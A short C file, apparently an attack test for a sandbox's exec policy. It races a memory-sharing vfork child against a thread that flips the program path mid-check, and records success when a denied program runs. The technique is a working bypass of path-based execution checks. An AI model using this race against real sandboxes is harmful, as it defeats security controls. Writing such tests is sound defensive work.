/* A vfork child shares the memory: another thread rewrites the program's path while it is judged. */
#include "attack.h"
static volatile char path[] = "bin/xa";
static int out[2];
static void *flip(void *unused) {
    for (;;) path[5] ^= 'a' ^ 'd';
    return unused;
}
static int try_once(void) {
    char *words[] = {"x", 0}, data[64] = "";
    pid_t child = vfork();
    if (!child) {
        dup2(out[1], 1);
        execve((char *)path, words, environ);
        _exit(0);
    }
    waitpid(child, 0, 0);
    return read(out[0], data, sizeof data) > 0 && strstr(data, "denied program");
}
int main(int argc, char **argv) {
    pthread_t thread;
    (void)argc;
    if (pipe2(out, O_NONBLOCK | O_CLOEXEC)) return 1;
    pthread_create(&thread, 0, flip, 0);
    return race(argv, try_once);
}
